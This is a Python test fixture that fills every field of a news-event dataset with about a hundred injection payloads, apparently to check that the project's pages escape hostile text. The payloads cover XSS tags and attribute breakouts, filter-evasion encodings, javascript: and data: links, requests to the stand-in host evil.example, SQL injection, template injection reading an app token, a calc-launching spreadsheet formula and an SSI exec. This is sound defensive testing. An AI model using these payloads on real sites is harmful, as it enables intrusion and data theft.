"""A hundred texts that would do harm if a page took them for anything but text. Each calls `window.hurt` if it can."""

from pathlib import Path

from tests.dataset.made import write
from tests.explore.corpus import coded, placed, told

from onrecord.dataset import Dataset
from onrecord.records import Article, Coding, Entity, Speaker

CALL = "window.hurt=1"
AWAY = "https://evil.example/"

_TAGS = (
    "<script>{c}</script>",
    "<SCRIPT SRC={a}x.js></SCRIPT>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<body onload={c}>",
    "<iframe src=javascript:{c}>",
    "<iframe srcdoc='<script>{c}</script>'>",
    "<object data='javascript:{c}'>",
    "<embed src='{a}'>",
    "<link rel=stylesheet href='{a}x.css'>",
    "<style>@import '{a}x.css';</style>",
    "<meta http-equiv=refresh content='0;url={a}'>",
    "<base href='{a}'>",
    "<form action='{a}'><input name=q autofocus onfocus={c}>",
    "<input onfocus={c} autofocus>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<marquee onstart={c}>",
    "<math><mtext><script>{c}</script></mtext></math>",
    "<template><script>{c}</script></template>",
    "<a href='javascript:{c}'>x</a>",
    "<div style='background:url({a}x.png)'>",
    "<img src='{a}x.png'>",
    "<img srcset='{a}x.png 1x'>",
    "<button formaction='javascript:{c}'>x</button>",
    "<isindex action='javascript:{c}'>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<keygen autofocus onfocus={c}>",
    "<dialog open onclose={c}>",
    "<frameset onload={c}>",
    "<table background='javascript:{c}'>",
    "<xss id=x tabindex=1 onfocus={c}></xss>",
    "<p onmouseover={c}>x</p>",
)
_BREAKS = (
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</style><script>{c}</script>",
    "</script><script>{c}</script>",
    "--><script>{c}</script>",
    "]]><script>{c}</script>",
    '" onmouseover="{c}',
    "' onfocus='{c}' autofocus='",
    '" autofocus onfocus={c} x="',
    "` onerror={c} `",
    '\\"><img src=x onerror={c}>',
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "%3Cscript%3E{c}%3C/script%3E",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<<script>{c}//<</script>",
    "<script\x0c>{c}</script>",
    "<img/src=x/onerror={c}>",
    "<svg/onload={c}//",
    "<a/href=javascript&colon;{c}>x",
    "<\u0000script>{c}</script>".replace("\u0000", " "),
    "\u202e<script>{c}</script>",
    "\u2028<script>{c}</script>",
    "\ufeff<script>{c}</script>",
    "＜script＞{c}＜/script＞",
)
_LINKS = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    " javascript:{c}",
    "java\tscript:{c}",
    "java\nscript:{c}",
    "javascript&colon;{c}",
    "javascript://%0a{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:{c}",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:javascript:{c}",
    'https://evil.example/"onclick="{c}',
    "https://evil.example/'><script>{c}</script>",
    "blob:https://evil.example/x",
    "view-source:javascript:{c}",
    "about:blank",
    "http://[::1",
)
_TEMPLATES = (
    "{{{{ 7*7 }}}}",
    "{{% raw %}}",
    "{{{{ request.app.state.token }}}}",
    "${{{c}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "{{{{constructor.constructor('{c}')()}}}}",
    "'; DROP TABLE events; --",
    "' OR 1=1 --",
    '"); {c}; ("',
    "=cmd|' /C calc'!A0",
    "@import url({a})",
    "-->{c}<!--",
    "/*{c}*/",
    '<!--#exec cmd="ls"-->',
)
PAYLOADS = tuple(p.format(c=CALL, a=AWAY) for p in (*_TAGS, *_BREAKS, *_LINKS, *_TEMPLATES))


def dataset(root: Path) -> Dataset:
    """A dataset with a payload in each title, text, byline, address, outlet, id, actor, recipient and speaker."""
    write(root, [_coding(n, payload) for n, payload in enumerate(PAYLOADS)])
    found = Dataset(root)
    found.merge()
    return found


def _coding(number: int, payload: str) -> Coding:
    sentence = f"Speaker{payload} says Actor{payload} accused Recipient{payload}."
    article = Article(
        id=f"hostile-{number}", text=f"{payload}\n{sentence} {payload}", lang="en", title=f"{payload} {number}",
        url=payload, outlet=payload, byline=payload, published="2024-06-18",
    )  # fmt: skip
    speaker = placed(Speaker, sentence, f"Speaker{payload}", code="UKR", name=payload, id=f"person/s{number}")
    return coded(article, told(
        article, sentence, "accused", "ACCUSE", 3, said_by=[speaker], why=payload, mode=payload[:20], coder=payload,
        actor=[placed(Entity, sentence, f"Actor{payload}", code="RUS", name=payload, id=_id(payload, number))],
        recipient=[placed(Entity, sentence, f"Recipient{payload}", code="FRA", name=payload)], contexts=[payload],
    ))  # fmt: skip


def _id(payload: str, number: int) -> str:
    """An id made of the payload, as far as one can be asked for."""
    return f"person/{''.join(payload.split())}{number}"
